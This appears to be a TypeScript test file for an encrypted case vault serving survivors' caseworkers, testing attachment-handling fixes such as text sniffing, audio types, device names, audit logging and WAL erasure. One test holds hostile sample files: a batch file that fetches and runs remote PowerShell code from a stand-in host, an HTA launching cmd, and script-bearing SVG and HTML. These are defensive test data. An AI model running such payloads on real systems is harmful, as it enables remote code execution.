// Case attachments: defects found by a reviewing helper. Every test here failed before its fix
// (the defect is described above it): attachment-types.ts, safeFileName, saveAs, the WAL wipe.
import { describe, expect, it } from 'vitest'
import { createDecipheriv } from 'node:crypto'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { call } from './support/temp-vault'
import { decryptAllPages } from './support/sqlcipher-pages'
import { parseRecoveryKey } from '../../main/core/vault/recovery-key'
import { createCase, signInAs, staffedHost } from './support/case-fixtures'
import type { AttachmentSummary } from '../../main/api/contract'

const text = (value: string) => new TextEncoder().encode(value)

/** The outcome of an add, as a caseworker sees it: the stored summary, or the refusal's code. */
async function tryAdd(
  host: Awaited<ReturnType<typeof staffedHost>>['host'],
  caseId: number,
  fileName: string,
  content: Uint8Array,
) {
  const result = await host.dispatch('attachments:add', { caseId, fileName, content })
  return result.ok ? (result.value as AttachmentSummary) : result.error.code
}

describe('plain-text statements in non-Latin scripts', () => {
  // What goes wrong: a UTF-8 text file larger than 64 KB is refused as "cannot be attached: only
  // documents, pictures and sound recordings" whenever byte 65,536 falls inside a multi-byte
  // character. For Cyrillic, Arabic, Greek (2 bytes a letter) that is about every second file;
  // for Thai, Amharic, Chinese (3 bytes) two files in three.
  // Who is hurt: the caseworker who wants to keep a survivor's long written statement or a
  // translated interview transcript in Ukrainian, Arabic or Tigrinya: it cannot be stored, and
  // the message blames the file's type, so they keep it loose on the desktop, unencrypted.
  // Cause: main/core/cases/attachment-service.ts:33-35 decodes the first 64 KiB with
  // TextDecoder({ fatal: true }) and no { stream: true }: a character cut by the sample's end is
  // "invalid UTF-8" and the whole file is refused.
  // Fix: decode the sample with { stream: true } (an unfinished character at the end is then
  // held back, not an error), or cut the sample back to the last character boundary.
  it('accepts a 80 KB Ukrainian statement whose 65,536th byte is inside a letter', async () => {
    const { host } = await staffedHost('bilal')
    const { id: caseId } = await createCase(host)
    // 'x' then Cyrillic letters of 2 bytes each: bytes 65535–65536 are one letter, cut by the sample.
    // Valid UTF-8 throughout (decoding the whole file does not throw).
    const statement = text('x' + 'МенепривезлидоВаршавиізабралипаспорт'.repeat(1200).slice(0, 40_000))
    expect(statement.byteLength).toBeGreaterThan(64 * 1024)
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(statement)).not.toThrow()
    expect(statement[64 * 1024]! & 0xc0).toBe(0x80) // the sample ends inside a letter
    const added = await tryAdd(host, caseId, 'заява.txt', statement)
    expect(typeof added === 'string' ? added : added.mediaType).toBe('text/plain')
  })
})

describe('sound recordings the screen invites', () => {
  // What goes wrong: the Attach button offers .m4a and .ogg (CaseAttachmentsTab.vue:18-19) and the
  // hint promises "sound recordings", but an iPhone voice memo (MPEG-4 audio, brand "M4A ") and a
  // WhatsApp/Telegram voice note (Ogg Opus) are refused as "not a document, picture or sound
  // recording".
  // Who is hurt: the survivor whose evidence is a voice note (a trafficker's threat, a recruiter's
  // false job offer): it is the most common recording a phone makes, and it cannot be kept with the
  // case, or is kept elsewhere without the vault's encryption.
  // Cause: main/core/cases/attachment-service.ts:12-29 allows 'audio/mp4' and 'audio/ogg', but the
  // sniffer (file-type 22) names these files 'audio/x-m4a' and 'audio/ogg; codecs=opus'
  // (node_modules/file-type/source/index.js:1325 and :731), so sniffMediaType returns null.
  // Fix: allow 'audio/x-m4a' and 'audio/ogg; codecs=opus' (storing them as audio/mp4 and audio/ogg),
  // or compare on the sniffed extension rather than the exact MIME string.
  it('accepts an iPhone voice memo (.m4a) and a WhatsApp voice note (Ogg Opus)', async () => {
    const { host } = await staffedHost('bilal')
    const { id: caseId } = await createCase(host)
    const voiceMemo = Buffer.concat([
      Buffer.from([0, 0, 0, 0x1c]),
      Buffer.from('ftypM4A \0\0\0\0M4A isommp42'),
      Buffer.from([0, 0, 0, 8]),
      Buffer.from('free'),
      Buffer.alloc(512),
    ])
    const voiceNote = Buffer.concat([
      Buffer.from('OggS\0\x02'),
      Buffer.alloc(22),
      Buffer.from('OpusHead\x01\x01\x38\x01\x80\xbb\0\0\0\0\0'),
      Buffer.alloc(512),
    ])
    const memo = await tryAdd(host, caseId, 'Recording 14.m4a', new Uint8Array(voiceMemo))
    const note = await tryAdd(host, caseId, 'PTT-20260314-WA0003.ogg', new Uint8Array(voiceNote))
    expect({
      memo: typeof memo === 'string' ? memo : memo.mediaType.split('/')[0],
      note: typeof note === 'string' ? note : note.mediaType.split('/')[0],
    }).toEqual({ memo: 'audio', note: 'audio' })
  })
})

describe('scripts disguised as text', () => {
  // What goes wrong: a batch file, an HTML application, an HTML page or an SVG with a script in it
  // is plain UTF-8 text, so it is accepted as text/plain and keeps its name: "Save a copy…" then
  // suggests "statement.bat" / "letter.hta" / "photo.svg", and a double-click runs it (cmd.exe,
  // mshta.exe, a browser on a file: URL).
  // Who is hurt: the caseworker and the whole office network: a file that came from outside (sent
  // "by the survivor's cousin", really by the exploiter) is stored as harmless text and handed back
  // with an extension that runs. The screen's own hint says "Programs, scripts and archives are
  // refused", so nobody is on guard.
  // Cause: main/core/cases/attachment-service.ts:43-46 (text is accepted by content alone) and :157
  // (the renderer-supplied name, extension included, is stored and later suggested as is,
  // main/api/case-parts.ts:28): nothing makes the extension agree with the sniffed type.
  // Fix: when the sniffed type is text/plain, store the name with a .txt extension (append ".txt"
  // unless it already ends so); more generally give every stored name the extension of its sniffed
  // type, or refuse names whose extension is executable (.bat .cmd .hta .html .htm .svg .js .vbs
  // .ps1 .lnk .url .desktop .sh…).
  it('does not hand back a script under a name that runs it', async () => {
    const { host, files } = await staffedHost('bilal')
    const { id: caseId } = await createCase(host)
    const samples: [string, string][] = [
      ['statement.bat', '@echo off\r\npowershell -w hidden -c "iwr http://x.example/p | iex"\r\n'],
      ['letter.hta', '<html><script>new ActiveXObject("WScript.Shell").Run("cmd")</script></html>'],
      [
        'photo.svg',
        '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://x.example")</script></svg>',
      ],
      ['invoice.html', '<!doctype html><script>location="http://x.example"</script>'],
    ]
    const runnable: string[] = []
    for (const [fileName, body] of samples) {
      const added = await tryAdd(host, caseId, fileName, text(body))
      if (typeof added === 'string') continue // refused: fine
      await call(host, 'attachments:saveAs', { id: added.id })
      const savedAs = files.saved.at(-1)!
      if (/\.(bat|cmd|hta|html?|svg|js|vbs|ps1)$/i.test(savedAs)) runnable.push(savedAs.split('/').pop()!)
    }
    expect(runnable).toEqual([])
  })
})

describe('Windows device names', () => {
  // What goes wrong: "COM¹.txt", "LPT².pdf", "CON .txt" and "nul .pdf" are kept as they are.
  // Windows treats all of them as devices (superscript digits are listed as reserved by Microsoft;
  // trailing spaces before the extension are dropped when a device name is looked for), so on a
  // Windows office PC "Save a copy…" of such a file writes into a device, not a file.
  // Who is hurt: a caseworker who saves a survivor's document to hand to a lawyer or the police:
  // the save fails with an OS error, or "succeeds" into nothing.
  // Cause: main/core/cases/attachment-service.ts:53, WINDOWS_DEVICE = /^(con|prn|aux|nul|com\d|lpt\d)(\..*)?$/i:
  // \d is ASCII only (no ¹²³), and the stem is compared with its trailing spaces.
  // Fix: compare the part before the first dot with trailing spaces and dots removed, against
  // con|prn|aux|nul|conin\$|conout\$|com[0-9¹²³]|lpt[0-9¹²³].
  it('makes device names with superscript digits or a space before the extension safe', async () => {
    const { host } = await staffedHost('bilal')
    const { id: caseId } = await createCase(host)
    const stored: string[] = []
    for (const fileName of ['COM¹.txt', 'LPT².pdf', 'CON .txt', 'nul .pdf']) {
      const added = await tryAdd(host, caseId, fileName, text('hello'))
      stored.push(typeof added === 'string' ? added : added.fileName)
    }
    const windowsDevice = (name: string) =>
      /^(con|prn|aux|nul|conin\$|conout\$|com[0-9¹²³]|lpt[0-9¹²³])$/i.test(
        name.split('.')[0]!.replace(/[ .]+$/, ''),
      )
    expect(stored.filter(windowsDevice)).toEqual([])
  })
})

describe('the audit log of a "Save a copy…" that failed', () => {
  // What goes wrong: when writing the copy fails (a full USB stick, a pulled cable, a folder the
  // user may not write in), the call answers with an error and no file exists, yet the audit log
  // already says "attachment.exported".
  // Who is hurt: the shelter manager or security reviewer who, after a leak, reads the log to learn
  // who took which survivor's document out of the vault: the log names a caseworker who never got
  // the file, and cannot tell real exports from failed ones.
  // Cause: main/api/case-parts.ts:30 evaluates attachments.contentFor(input.id) (which appends the
  // audit row, main/core/cases/attachment-service.ts:175) as the argument of ctx.files.write, i.e.
  // before the write has even started.
  // Fix: read the bytes without auditing, await the write, then (in the same synchronous step, as
  // discardIfAborted in write-private-file.ts does for exports) audit 'attachment.exported'; or
  // audit a separate 'attachment.export_failed' when the write throws.
  it('does not log an export when the file could not be written', async () => {
    const { host, files } = await staffedHost('bilal')
    const { id: caseId } = await createCase(host)
    const added = await call<AttachmentSummary>(host, 'attachments:add', {
      caseId,
      fileName: 'passport.txt',
      content: text('Passport number UA 123456'),
    })
    const realWrite = files.files.write
    files.files.write = async () => {
      throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' })
    }
    const result = await host.dispatch('attachments:saveAs', { id: added.id })
    files.files.write = realWrite
    await signInAs(host, 'amara')
    const actions = (await call<{ action: string }[]>(host, 'audit:list', { limit: 50 })).map((e) => e.action)
    expect({
      failed: !result.ok,
      leftInFolder: existsSync(files.folder) ? readdirSync(files.folder) : [],
      loggedAsExported: actions.includes('attachment.exported'),
    }).toEqual({ failed: true, leftInFolder: [], loggedAsExported: false })
  })
})

/** Every page image in a SQLCipher WAL file (32-byte header; frames of a 24-byte header + page). */
function decryptWalFrames(path: string, rawKey: Buffer): Buffer[] {
  const wal = existsSync(path) ? readFileSync(path) : Buffer.alloc(0)
  const pages: Buffer[] = []
  for (let offset = 32; offset + 24 + 4096 <= wal.length; offset += 24 + 4096) {
    const page = wal.subarray(offset + 24, offset + 24 + 4096)
    const decipher = createDecipheriv('aes-256-cbc', rawKey, page.subarray(4016, 4032)).setAutoPadding(false)
    pages.push(Buffer.concat([decipher.update(page.subarray(0, 4016)), decipher.final()]))
  }
  return pages
}

describe('a removed attachment on the disk while the vault stays unlocked', () => {
  // What goes wrong: "Remove {name} from the case? The file is erased from the vault." The row is
  // deleted and secure_delete zeroes its pages, but only in the newest frames of the write-ahead
  // log: the older frames of casevault.db-wal still hold the whole file, readable with the vault's
  // key, for as long as the vault stays unlocked (a working day) and, after a crash or power cut,
  // until the next unlock. A case deleted at the survivor's request lingers the same way.
  // Who is hurt: the survivor whose document was removed because it was attached to the wrong case
  // or at their request: a copy of the data folder taken meanwhile (a seized or stolen laptop
  // that crashed, a cloud sync of the folder, a disk image) plus one staff passphrase gives it back.
  // Cause: main/core/db/connection.ts:47 (journal_mode = WAL) with no checkpoint after an erasure:
  // main/core/cases/attachment-service.ts:178-184 (remove) and case-service.ts:283-291 (delete)
  // commit and return; SQLite rewinds the WAL only at a later checkpoint and never wipes old frames.
  // Fix: after a removal or case deletion commits, run PRAGMA wal_checkpoint(TRUNCATE) (retry when
  // busy), so the old frames are gone from the disk at once, as they are after a lock.
  it('leaves the removed file in no page of the database or its WAL, right after the removal', async () => {
    const { host, dataDir, recoveryKey } = await staffedHost('bilal')
    const { id: caseId } = await createCase(host)
    await call(host, 'attachments:add', {
      caseId,
      fileName: 'kept.txt',
      content: text('Keptmarkerword '.repeat(2000)),
    })
    const added = await call<AttachmentSummary>(host, 'attachments:add', {
      caseId,
      fileName: 'wrong-case.txt',
      content: text('Erasedmarkerword '.repeat(3000)),
    })
    await call(host, 'attachments:remove', { id: added.id })
    const key = parseRecoveryKey(recoveryKey)
    const onDisk = Buffer.concat([
      ...decryptAllPages(join(dataDir, 'casevault.db'), key),
      ...decryptWalFrames(join(dataDir, 'casevault.db-wal'), key),
    ])
    expect({
      keptReadable: onDisk.includes(Buffer.from('Keptmarkerword')), // the decryption works
      removedReadable: onDisk.includes(Buffer.from('Erasedmarkerword')),
    }).toEqual({ keptReadable: true, removedReadable: false })
  })
})

describe('a "Save a copy…" cut short by a lock', () => {
  // The write finished, then the vault locked before the export could be logged (an idle lock on a
  // slow stick): the copy is taken back, so that no copy leaves the vault unlogged.
  it('removes the copy it could not log and says the vault is locked', async () => {
    const { host, files } = await staffedHost('bilal')
    const { id: caseId } = await createCase(host)
    const added = await call<AttachmentSummary>(host, 'attachments:add', {
      caseId,
      fileName: 'passport.txt',
      content: text('Passport number UA 123456'),
    })
    const realWrite = files.files.write
    files.files.write = async (path, bytes) => {
      await realWrite(path, bytes)
      host.lock('idle')
    }
    const result = await host.dispatch('attachments:saveAs', { id: added.id })
    files.files.write = realWrite
    expect(result).toMatchObject({ ok: false, error: { code: 'LOCKED' } })
    expect(readdirSync(files.folder)).toEqual([])
  })
})
